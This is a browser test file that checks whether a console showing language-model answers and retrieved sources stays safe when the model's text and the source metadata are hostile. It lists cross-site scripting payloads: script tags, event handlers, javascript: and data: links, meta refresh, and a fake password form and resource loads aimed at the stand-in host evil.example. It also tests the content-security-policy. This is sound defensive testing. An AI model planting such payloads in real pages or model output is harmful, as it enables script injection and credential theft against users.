import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { consoleContentSecurityPolicy } from '../../server/http/console-files.ts'
import { canBrowse, type Stage, startStage, type Visitor } from '../support/browser.ts'
import { makeTenant } from '../support/people.ts'

const evil = 'http://evil.example'
/** Everything that could run, be fetched, or lead away; each piece sets a mark or names the evil place. */
const hostileText = [
  'Before [1].',
  `<script>window.hacked = 'script'</script>`,
  `<script src="${evil}/script.js"></script>`,
  `<img src="${evil}/raw.png" onerror="window.hacked = 'onerror'">`,
  `<img src="x" onerror="window.hacked = 'onerror of our own address'">`,
  `![a picture](${evil}/markdown.png)`,
  `![a picture by name][picture]`,
  `[run me](javascript:window.hacked='link')`,
  `[run me too](JaVaScRiPt&colon;window.hacked='entity')`,
  `[a page](data:text/html,<script>window.hacked='data'</script>)`,
  `<a href="javascript:window.hacked='raw'">run raw</a>`,
  `<javascript:window.hacked='autolink'>`,
  `<iframe src="javascript:window.hacked='iframe'"></iframe><iframe srcdoc="<script>parent.hacked='srcdoc'</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  `<base href="${evil}/">`,
  `<link rel="stylesheet" href="${evil}/style.css">`,
  `<style>@import url(${evil}/import.css); body { background: url(${evil}/background.png) }</style>`,
  `<p style="background: url(${evil}/inline.png)">styled</p>`,
  `<svg onload="window.hacked = 'svg'"><image href="${evil}/svg.png"/></svg>`,
  `<video autoplay src="${evil}/video.mp4" poster="${evil}/poster.png"></video>`,
  `<object data="${evil}/object"></object><embed src="${evil}/embed">`,
  `<form action="${evil}/form"><input name="password"><button>Sign in</button></form>`,
  `<details open ontoggle="window.hacked = 'toggle'">x</details>`,
  '```mermaid\ngraph LR; A[<img src=x onerror="window.hacked=1">] --> B\n```',
  `$$\\href{javascript:window.hacked='math'}{x}$$`,
  `After.\n\n[picture]: ${evil}/reference.png`,
].join('\n\n')
const question = 'What is dangerous?'

describe.skipIf(!canBrowse())('B12: what a model says', () => {
  let stage: Stage
  let visitor: Visitor

  beforeAll(async () => {
    stage = await startStage()
    stage.pinecone.addIndex({ name: 'hostile-docs', apiKey: 'pcsk_hostile_0123456789', dimension: 1536 })
    const metadata = { title: `<img src=x onerror="window.hacked='title'">`, url: `javascript:window.hacked='source'` }
    stage.pinecone.seed('hostile-docs', [{ id: 'one', text: `${question} ${hostileText}`, metadata }])
    await makeTenant(stage.app, stage.superuser, 'hostile', {
      name: `<img src="${evil}/name.png" onerror="window.hacked='name'">`,
      model_provider: 'openai',
      model: 'gpt-4.1-mini',
      pinecone_api_key: 'pcsk_hostile_0123456789',
      pinecone_index: 'hostile-docs',
      retrieval: 'semantic',
    })
    visitor = await stage.visit()
    await visitor.go('/sign-in')
    await visitor.signIn(stage.superuser)
  })
  afterAll(() => stage.stop())

  test('runs nothing and fetches nothing in the playground, nor do its sources', async () => {
    const { page } = visitor
    await visitor.go('/tenants/hostile/prompt')
    stage.model.behave({ text: hostileText })
    await page.getByRole('textbox', { name: 'Ask the live prompt' }).fill(question)
    await page.getByRole('button', { name: 'Ask the live prompt' }).click()
    await page.getByText('After.').first().waitFor()
    await expectHarmless()
    await page
      .getByRole('button', { name: /source 1/i })
      .first()
      .click()
    await page.getByRole('region', { name: 'Sources' }).waitFor()
    await expectHarmless()
  })

  test('runs nothing and fetches nothing where a new tenant is tried', async () => {
    const { page } = visitor
    for (const step of ['prompt', 'try']) {
      await visitor.go(`/tenants/new?tenant=hostile&step=${step}`)
      stage.model.behave({ text: hostileText })
      await page.getByRole('button', { name: /^Ask/ }).click()
      await page.getByText('After.').first().waitFor()
      await expectHarmless()
    }
  })

  test('would be stopped by the policy even if it got into the page', async () => {
    const other = await stage.visit()
    const answer = await other.page.goto(`${stage.app.url}/console/sign-in`)
    expect(answer?.headers()['content-security-policy']).toBe(consoleContentSecurityPolicy)
    const violated = await other.page.evaluate(async (evil) => {
      const seen = new Set<string>()
      document.addEventListener('securitypolicyviolation', (event) => seen.add(event.effectiveDirective))
      const holder = document.createElement('div')
      document.body.append(holder)
      holder.innerHTML = `<img src="${evil}/x.png"><p style="color: red">x</p><iframe src="${evil}"></iframe>`
      const script = document.createElement('script')
      script.textContent = 'window.hacked = "inline"'
      holder.append(script)
      const sheet = document.createElement('style')
      sheet.textContent = 'body { color: red }'
      holder.append(sheet)
      await fetch(evil).catch(() => undefined)
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
      return { directives: [...seen], hacked: Reflect.get(window, 'hacked') }
    }, evil)
    expect(violated.hacked).toBeUndefined()
    for (const directive of ['img-src', 'style-src-attr', 'style-src-elem', 'script-src-elem', 'connect-src'])
      expect(violated.directives).toContain(directive)
    await other.leave()
  })

  /** Nothing ran, nothing was asked for, nothing of it is an element that could, and every link leads to the web. */
  async function expectHarmless(): Promise<void> {
    const { page } = visitor
    const { pathname } = new URL(page.url())
    const found = await page.evaluate(() => ({
      address: location.pathname,
      hacked: Reflect.get(window, 'hacked'),
      elements: [
        ...document.querySelectorAll(
          'main :is(script, iframe, img, style, meta, base, link, object, embed, form[action], video, audio, [onerror], [onload], [ontoggle])',
        ),
      ].map((element) => element.outerHTML.slice(0, 200)),
      links: [...document.querySelectorAll('main a[href]')].map((link) =>
        link instanceof HTMLAnchorElement ? link.protocol : '',
      ),
    }))
    expect(found).toEqual({
      address: pathname,
      hacked: undefined,
      elements: [],
      links: expect.anything(),
    })
    expect(found.links.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([])
    for (const words of ['run me', 'run me too', 'run raw']) {
      for (const place of await page.getByText(words, { exact: true }).all()) await place.click()
    }
    expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
    visitor.assertQuiet()
  }
})
